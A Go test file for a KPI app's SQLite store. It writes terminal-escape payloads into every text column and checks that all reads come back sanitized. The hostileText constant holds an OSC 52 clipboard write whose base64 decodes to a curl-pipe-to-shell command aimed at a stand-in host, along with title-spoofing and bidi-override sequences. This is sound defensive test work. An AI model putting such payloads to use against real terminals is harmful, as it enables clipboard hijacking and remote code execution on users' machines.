package db

import (
	"database/sql"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"kpi/model"
)

// hostileText is what a hostile tool writes into every text column: OSC 52
// (sets the clipboard), OSC 0 (the window title), CSI colour, DCS, a C1 CSI,
// C1 NEL, bidi overrides and isolates, a line separator, BEL, DEL and a
// carriage return.
const hostileText = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07\x1b]0;pwned\x07\x1b[31mred\x1bP1$qm\x1b\\" +
	"\u009b2J\u0085\u202eevil\u202c\u2066iso\u2069\u2028\x07\x7f\r"

// hostileJSON is a JSON string holding the same kind of controls, escaped so
// the JSON itself is valid: what a JSON column can carry into a decoded string.
const hostileJSON = `"\u001b]0;pwned\u0007\u001b[31mbob\u202e\u009b"`

// plantSQL runs statements on the file with a plain connection, as another tool
// would, with CHECK constraints off so that the schema's refusals cannot hide a
// reader's weakness.
func plantSQL(t *testing.T, path string, stmts ...string) {
	t.Helper()
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	db.SetMaxOpenConns(1)
	if _, err := db.Exec("PRAGMA ignore_check_constraints = ON"); err != nil {
		t.Fatal(err)
	}
	for _, q := range stmts {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
}

// textColumns are the TEXT columns of every table, read from the file itself so
// that a column added later is planted too.
func textColumns(t *testing.T, path string) map[string][]string {
	t.Helper()
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	rows, err := db.Query("SELECT m.name, p.name FROM sqlite_master m, pragma_table_info(m.name) p WHERE m.type = 'table' AND upper(p.type) = 'TEXT' AND m.name NOT LIKE 'sqlite_%'")
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	out := map[string][]string{}
	for rows.Next() {
		var table, col string
		if err := rows.Scan(&table, &col); err != nil {
			t.Fatal(err)
		}
		out[table] = append(out[table], col)
	}
	return out
}

// populated is a store with one of everything: an objective, two KPIs (one
// derived), values, a started review with its checklist and a reviewed KPI,
// an action item, a session and the change log they made.
func populated(t *testing.T) (*Store, model.KPI) {
	t.Helper()
	s := newStore(t)
	o, err := s.CreateObjective(model.Objective{Title: "Grow", Owner: "ana"})
	if err != nil {
		t.Fatal(err)
	}
	k := sampleKPI("mrr")
	k.ObjectiveID = o.ID
	mrr := mustKPI(t, s, k)
	d := sampleKPI("double")
	d.Formula, d.Tier = "mrr * 2", model.TierHealth
	mustKPI(t, s, d)
	for i, w := range []string{"2026-W45", "2026-W46", "2026-W47"} {
		v := numValue(mrr.ID, w, float64(100+i))
		v.Note = "fine"
		if _, err := s.PutValue(v); err != nil {
			t.Fatal(err)
		}
	}
	w := model.MustWeek("2026-W47")
	rv, err := s.StartReview(w)
	if err != nil {
		t.Fatal(err)
	}
	rv.Attendees, rv.ReviewedKPIs, rv.Notes = []string{"ana", "bo"}, []int64{mrr.ID}, "notes"
	if _, err := s.UpdateReview(rv); err != nil {
		t.Fatal(err)
	}
	if _, err := s.CreateActionItem(model.ActionItem{Text: "call", Owner: "bo", Due: w.Next(), KPIID: mrr.ID}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.RegisterSession(42); err != nil {
		t.Fatal(err)
	}
	return s, mrr
}

// readEverything calls every read of the store and returns what they gave,
// failing the test on any error.
func readEverything(t *testing.T, s *Store, mrr model.KPI) map[string]any {
	t.Helper()
	w := model.MustWeek("2026-W47")
	out := map[string]any{}
	must := func(name string, v any, err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		out[name] = v
	}
	st, err := s.Settings()
	must("Settings", st, err)
	objs, err := s.Objectives()
	must("Objectives", objs, err)
	kpis, err := s.KPIs()
	must("KPIs", kpis, err)
	k, err := s.KPI(mrr.ID)
	must("KPI", k, err)
	all, err := s.Values(model.Week{}, model.Week{})
	must("Values(all)", all, err)
	win, err := s.Values(w.Add(-4), w)
	must("Values(window)", win, err)
	of, err := s.ValuesOf(mrr.ID, model.Week{}, model.Week{})
	must("ValuesOf", of, err)
	v, _, err := s.Value(mrr.ID, w)
	must("Value", v, err)
	rs, err := s.Reviews()
	must("Reviews", rs, err)
	r, _, err := s.Review(w)
	must("Review", r, err)
	as, err := s.ActionItems()
	must("ActionItems", as, err)
	cs, err := s.Changes(ChangeFilter{})
	must("Changes", cs, err)
	ses, err := s.Sessions()
	must("Sessions", ses, err)
	ds, err := s.Export()
	must("Export", ds, err)
	s.KeepWeeks(8) // the app's cached reads
	cached, err := s.Values(w.Add(-4), w)
	must("Values(cached)", cached, err)
	ck, err := s.KPIs()
	must("KPIs(cached)", ck, err)
	s.KeepWeeks(0)
	return out
}

// unsafeRune reports a rune that could drive a terminal or reorder text.
func unsafeRune(r rune) bool {
	switch {
	case r == '\n' || r == '\t':
		return false
	case r < 0x20, r >= 0x7f && r <= 0x9f, r == utf8.RuneError:
		return true
	case r == '\u2028' || r == '\u2029', r >= '\u202a' && r <= '\u202e', r >= '\u2066' && r <= '\u2069':
		return true
	}
	return false
}

// walkStrings calls visit with every string inside v, through structs
// (embedded ones too), pointers, slices, arrays, maps and interfaces, so a
// field added to any model type later is checked without being listed.
func walkStrings(v reflect.Value, path string, visit func(path, s string)) {
	switch v.Kind() {
	case reflect.String:
		visit(path, v.String())
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			walkStrings(v.Elem(), path, visit)
		}
	case reflect.Struct:
		for i := 0; i < v.NumField(); i++ {
			if v.Type().Field(i).IsExported() {
				walkStrings(v.Field(i), path+"."+v.Type().Field(i).Name, visit)
			}
		}
	case reflect.Slice, reflect.Array:
		for i := 0; i < v.Len(); i++ {
			walkStrings(v.Index(i), fmt.Sprintf("%s[%d]", path, i), visit)
		}
	case reflect.Map:
		for _, key := range v.MapKeys() {
			walkStrings(key, path+"{key}", visit)
			walkStrings(v.MapIndex(key), fmt.Sprintf("%s[%v]", path, key), visit)
		}
	}
}

func TestWalkStringsFindsEveryStringOfEveryModelType(t *testing.T) {
	// The walker must reach nested and embedded fields, or the test below
	// proves nothing: plant a mark in a few deep places and count them.
	ds := model.Dataset{
		KPIs:    []model.KPI{{Key: "x", Stamp: model.Stamp{UpdatedBy: "x"}}},
		Reviews: []model.Review{{Attendees: []string{"x"}, Checklist: []model.ChecklistItem{{DoneBy: "x"}}}},
	}
	ds.Settings.Checklist = []model.TemplateItem{{Text: "x"}}
	n := 0
	walkStrings(reflect.ValueOf(ds), "ds", func(_, s string) {
		if s == "x" {
			n++
		}
	})
	if n != 5 {
		t.Errorf("walker found %d of the 5 planted strings", n)
	}
}

func TestEveryTextTheStoreReturnsIsCleanWhateverTheFileHolds(t *testing.T) {
	fileOnly(t)
	s, mrr := populated(t)
	path := s.Path()
	cols := textColumns(t, path)
	var stmts []string
	for table, names := range cols {
		if table == "change_log" {
			continue // append-only: planted below as a new row
		}
		for _, c := range names {
			stmts = append(stmts, fmt.Sprintf("UPDATE %s SET %q = %q || char(%s)", table, c, c, charList(hostileText)))
		}
	}
	stmts = append(stmts,
		"UPDATE reviews SET attendees = '["+hostileJSON+", \"ok\"]'",
		"UPDATE settings SET checklist_template = '[{\"text\": "+hostileJSON+", \"timebox_minutes\": 5}]'",
		fmt.Sprintf("INSERT INTO change_log (at, user, host, entity, entity_id, kpi_id, action, summary, old, new) VALUES "+
			"(char(%[1]s), char(%[1]s), char(%[1]s), char(%[1]s), 1, %[2]d, char(%[1]s), char(%[1]s), char(%[1]s), char(%[1]s))",
			charList(hostileText), mrr.ID),
	)
	if len(cols["kpis"]) < 10 || len(cols["kpi_values"]) < 8 || len(cols["sessions"]) < 4 {
		t.Fatalf("the file's text columns were not all found: %v", cols)
	}
	plantSQL(t, path, stmts...)
	if raw := plainString(t, path, "SELECT name FROM kpis WHERE id = "+fmt.Sprint(mrr.ID)); !strings.Contains(raw, "\x1b]52") {
		t.Fatalf("the planting did not reach the file: name %q", raw)
	}

	got := readEverything(t, s, mrr)
	if name := got["KPI"].(model.KPI).Name; !strings.HasPrefix(name, "KPI mrr") || !strings.Contains(name, "red") {
		t.Errorf("the cleaned name %q lost its printable text", name)
	}
	strs := 0
	for name, v := range got {
		walkStrings(reflect.ValueOf(v), name, func(p, str string) {
			strs++
			for _, r := range str {
				if unsafeRune(r) {
					t.Errorf("%s = %q holds %U", p, str, r)
					return
				}
			}
		})
	}
	if strs < 100 {
		t.Errorf("only %d strings were read back; the planting or the reads missed something", strs)
	}
	// Keys that were not valid as written are still addressable, never a
	// cleaned look-alike of another KPI's key.
	for _, k := range got["KPIs"].([]model.KPI) {
		if !strings.HasPrefix(k.Key, BadKeyPrefix) || k.Bad == "" {
			t.Errorf("KPI %d: key %q (bad %q), want %s%d with a reason", k.ID, k.Key, k.Bad, BadKeyPrefix, k.ID)
		}
	}
}

// charList writes s as the arguments of SQL's char(), so the planted bytes do
// not depend on how a driver quotes control characters.
func charList(s string) string {
	var parts []string
	for _, r := range s {
		parts = append(parts, fmt.Sprint(r))
	}
	return strings.Join(parts, ", ")
}
